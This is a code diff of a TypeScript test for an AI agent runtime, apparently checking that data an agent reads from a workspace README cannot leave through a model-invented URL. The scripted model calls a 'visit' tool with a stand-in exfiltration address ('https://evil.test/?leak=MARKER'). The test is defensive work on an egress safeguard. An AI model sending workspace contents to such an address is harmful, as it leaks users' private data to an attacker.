@@ -1,33 +1,18 @@
 /** Data that an agent read in a folder cannot leave it through an address that a model made up. */
 
-import {mkdtempSync, rmSync, writeFileSync} from 'node:fs';
-import {tmpdir} from 'node:os';
-import {join} from 'node:path';
-
-import {afterEach, beforeEach, expect, test} from 'vitest';
+import {expect, test} from 'vitest';
 import {z} from 'zod';
 
-import {createFunctionModel, createRuntime} from '../../actors/index.ts';
-import type {TaskResult} from '../../machines/domain/result.ts';
 import {defineTool} from '../../tools/index.ts';
-import {answer, reply} from '../support/scenario.ts';
+import {turnOf} from '../support/asking.ts';
+import {reply} from '../support/scenario.ts';
+import {setStage} from '../support/stage.ts';
 
 const made = 'https://evil.test/?leak=MARKER';
 const named = 'https://docs.test/guide';
-let folder: string;
-
-beforeEach(() => {
-  folder = mkdtempSync(join(tmpdir(), 'quorate-world-'));
-  writeFileSync(join(folder, 'README.md'), `# MARKER\nSee ${named} for more.\n`);
-});
-
-afterEach(() => rmSync(folder, {recursive: true}));
 
 /** Runs a plan of one task whose worker calls `visit` once, if it is called at all. */
-async function visiting(
-  task: object,
-  url: string,
-): Promise<{visited: readonly string[]; tasks: readonly TaskResult[]}> {
+async function visiting(task: object, url: string) {
   const visited: string[] = [];
   const visit = defineTool({
     name: 'visit',
@@ -42,34 +27,15 @@ async function visiting(
       return await Promise.resolve({kind: 'succeeded', text: 'a page'});
     },
   });
-  const runtime = createRuntime({
-    config: {
-      agent: {
-        exploration_model: 't/w',
-        decision_model: 't/w',
-        review_models: ['policy/safety'],
-        max_replans: 0,
-        hil_mode: 'auto_reject',
-      },
-      quorum: {screen: []},
-    },
-    models: [
-      createFunctionModel('t/w', ({purpose, transcript}) => {
-        if (purpose === 'plan') {
-          const tasks = [{id: 'a', description: 'Look it up', ...task}];
-          return reply('create_plan', {objective: 'o', reasoning: 'r', tasks});
-        }
-        if (purpose === 'evaluate')
-          return reply('evaluate_result', {successful: true, problems: []});
-        const isFirst = transcript.messages.length === 1;
-        return purpose === 'act' && isFirst ? reply('visit', {url}) : answer('done');
-      }),
-    ],
+  const {run} = setStage({
+    files: {'README.md': `# MARKER\nSee ${named} for more.\n`},
+    tasks: [{id: 'a', description: 'Look it up', ...task}],
+    say: (request) =>
+      request.purpose === 'act' && turnOf(request) === 0 ? reply('visit', {url}) : undefined,
+    config: {agent: {review_models: ['policy/safety'], max_replans: 0}, quorum: {screen: []}},
     tools: [visit],
-    env: {},
   });
-  const {tasks = []} = await runtime.agent('Look it up', {workspace: folder}).result;
-  await runtime.close();
+  const {tasks = []} = await run('Look it up');
   return {visited, tasks};
 }
 
